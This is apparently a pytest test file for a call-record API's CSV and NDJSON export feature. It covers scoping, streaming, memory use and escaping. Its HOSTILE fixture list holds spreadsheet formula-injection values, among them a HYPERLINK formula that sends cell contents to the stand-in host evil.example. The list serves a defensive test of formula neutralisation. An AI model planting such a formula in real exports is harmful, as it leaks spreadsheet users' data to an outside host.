"""CSV / NDJSON exports on all three databases: the same queries, streamed."""

from __future__ import annotations

import asyncio
import csv
import io
import tracemalloc
from datetime import datetime
from typing import Any

import orjson
import pytest

from tests.builders import calls, cdr_row
from tests.support import unlimited
from voip24h.db.drivers import make_reader
from voip24h.db.queries import call_records as record_queries
from voip24h.domain.mapping import CallRecord
from voip24h.domain.partners import Scope
from voip24h.service.answers import AnswerService, Partner
from voip24h.service.translate import RecordQuery
from voip24h.wire import export


@pytest.fixture
def client(make_client: Any, settings: Any) -> Any:
    """The app without per-partner rate limits: these tests send many requests quickly."""
    return make_client(**unlimited(settings))


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+84912345678",
    "-2+3",
    "@SUM(A1:A9)",
    'say "hi", then\r\nleave',
    "\t=1+1",
]


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_of_a_seed_query(load, add_partner, post):
    load(*calls())
    secret = add_partner()
    response = post("getUser", secret, {"user": "137", "format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="calls.csv"'
    json_data = post("getUser", secret, {"user": "137"}).json()["data"]
    rows = parse_csv(response.text)
    assert rows[0] == ["callId", "user", "phoneNumber", "callType", "callStatus", "callDate"]
    assert rows[1:] == [list(r.values()) for r in json_data]
    assert response.text.endswith("\r\n")


def test_ndjson_export_with_extended_fields_and_filters(load, add_partner, post):
    load(*calls())
    secret = add_partner()
    data = {
        "fromDate": "28/07/2018",
        "toDate": "29/07/2018",
        "direction": "INBOUND",
        "extended": True,
    }
    response = post("getDate", secret, {**data, "format": "ndjson"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    lines = response.content.splitlines()
    assert [orjson.loads(line) for line in lines] == post("getDate", secret, data).json()["data"]
    assert len(lines) == 3


def test_csv_quotes_hostile_values_and_neutralises_formulas(load, add_partner, post):
    load(
        *[
            cdr_row(uniqueid=f"h.{n}", dst=value, did=value, calldate=datetime(2018, 7, 1, 9, n))
            for n, value in enumerate(HOSTILE)
        ]
    )
    secret = add_partner()
    response = post("getUser", secret, {"user": "137", "format": "csv", "fields": ["did"]})
    rows = parse_csv(response.text)
    assert rows[0][-1] == "did"
    by_id = {row[0]: row for row in rows[1:]}
    for n, value in enumerate(HOSTILE):
        phone, did = by_id[f"h.{n}"][2], by_id[f"h.{n}"][6]
        assert phone == did
        # Every formula trigger gets a leading apostrophe; nothing else changes.
        assert phone == ("'" + value if value[0] in "=+-@\t\r" else value)
    raw = response.content
    assert b'"say ""hi"", then\r\nleave"' in raw


def test_empty_export_still_has_its_header(load, add_partner, post):
    load(*calls())
    response = post("getUser", add_partner(), {"user": "555", "format": "csv"})
    assert response.status_code == 200
    assert response.text == "callId,user,phoneNumber,callType,callStatus,callDate\r\n"
    ndjson = post("getUser", add_partner("b"), {"user": "555", "format": "ndjson"})
    assert ndjson.content == b""


def test_export_stays_in_scope_and_never_hits_result_too_large(load, add_partner, make_client):
    load(*calls())
    globex = add_partner("globex", accountcodes=("globex",))
    client = make_client(max_records=1)
    body = {
        "requestType": "getDate",
        "partnerSecret": globex,
        "data": {"fromDate": "01/07/2018", "toDate": "31/07/2018", "format": "ndjson"},
    }
    lines = client.post("/api/v1/partner/voip24h", json=body).content.splitlines()
    assert [orjson.loads(line)["callId"] for line in lines] == ["1532850000.7"]
    acme = add_partner("acme", accountcodes=("acme",))
    body["partnerSecret"] = acme
    assert len(client.post("/api/v1/partner/voip24h", json=body).content.splitlines()) == 7


@pytest.mark.parametrize("data", [{"format": "xml"}, {"format": "csv", "limit": 5}])
def test_bad_export_requests(data, load, add_partner, post):
    load(*calls())
    response = post("getUser", add_partner(), {"user": "137", **data})
    assert response.status_code == 400
    assert response.json()["errorCode"] == "invalid_field"


def test_user_outside_scope_gets_no_export(load, add_partner, post):
    load(*calls())
    secret = add_partner("ext", extensions=("101",))
    response = post("getUser", secret, {"user": "137", "format": "csv"})
    assert response.status_code == 403
    assert response.json()["errorCode"] == "user_not_permitted"


def test_body_reads_one_chunk_ahead_at_most():
    pulled: list[int] = []

    async def chunks():
        for n in range(1, 4):
            pulled.append(n)
            yield [("c", "137", "0", "EXTERNAL", "ANSWERED", "2018-07-01 00:00:00")] * n

    async def run() -> list[tuple[int, list[int]]]:
        source = chunks()
        first = await anext(source)
        sent = []
        async for part in export.body(first, source, (), "ndjson"):
            sent.append((part.count(b"\n"), list(pulled)))
        return sent

    assert asyncio.run(run()) == [(1, [1]), (2, [1, 2]), (3, [1, 2, 3])]


def _records(first: int, count: int) -> list[CallRecord]:
    return [
        CallRecord(
            f"{1530000000 + n}.{n}",
            "137",
            137,
            "acme",
            1530000000 + n,
            "2018-06-26 15:00:00",
            f"09{n:08d}",
            "EXTERNAL",
            "ANSWERED",
            "OUTBOUND",
            40,
            30,
            "",
            "",
            "",
        )
        for n in range(first, first + count)
    ]


def _peak_while_exporting(settings: Any) -> tuple[int, int]:
    """(rows streamed, peak traced bytes) for an export of every record."""

    async def run() -> tuple[int, int]:
        reader = make_reader(settings.database_url, 30, 2)
        await reader.start()
        try:
            service = AnswerService(reader, 10, settings)
            partner = Partner(1, "p", Scope())
            result = await service.answer(partner, RecordQuery(None, None, format="csv"))
            tracemalloc.start()
            first = await anext(result.chunks, None)  # type: ignore[union-attr]
            lines = 0
            async for part in export.body(first, result.chunks, (), "csv"):  # type: ignore[union-attr]
                lines += part.count(b"\n")
            _, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
            return lines - 1, peak
        finally:
            await reader.close()

    return asyncio.run(run())


@pytest.mark.slow
def test_export_memory_does_not_grow_with_the_result(engine, settings):
    settings = settings.replace(export_chunk_rows=500)
    with engine.begin() as conn:
        record_queries.insert_records(conn, _records(0, 5_000))
    small_rows, small_peak = _peak_while_exporting(settings)
    with engine.begin() as conn:
        for start in range(5_000, 40_000, 5_000):
            record_queries.insert_records(conn, _records(start, 5_000))
    big_rows, big_peak = _peak_while_exporting(settings)
    assert (small_rows, big_rows) == (5_000, 40_000)
    # Eight times the rows, about the same memory: bounded by a chunk, not the result.
    assert big_peak < small_peak * 2, (small_peak, big_peak)


def test_get_call_data_exports_too(load, add_partner, post):
    load(*calls())
    response = post("getCallData", add_partner(), {"callId": "1532840000.1", "format": "ndjson"})
    assert response.status_code == 200
    assert [orjson.loads(line)["user"] for line in response.content.splitlines()] == ["201", "200"]


def test_an_export_in_progress_hides_no_new_call_from_other_requests(engine, settings):
    with engine.begin() as conn:
        record_queries.insert_records(conn, _records(0, 50))

    async def run() -> tuple[int, int]:
        reader = make_reader(settings.database_url, 30, 2)
        await reader.start()
        try:
            service = AnswerService(reader, 1000, settings.replace(export_chunk_rows=10))
            partner = Partner(1, "p", Scope())
            export_ = await service.answer(partner, RecordQuery(None, None, format="ndjson"))
            first = await anext(export_.chunks)  # type: ignore[union-attr]
            with engine.begin() as conn:  # a call arrives while the export is half sent
                record_queries.insert_records(conn, _records(50, 1))
            seen = len(await service.find(partner, RecordQuery(None, None)))
            rest = [row async for chunk in export_.chunks for row in chunk]  # type: ignore[union-attr]
            return seen, len(first) + len(rest)
        finally:
            await reader.close()

    seen, exported = asyncio.run(run())
    assert seen == 51
    assert exported in (50, 51)
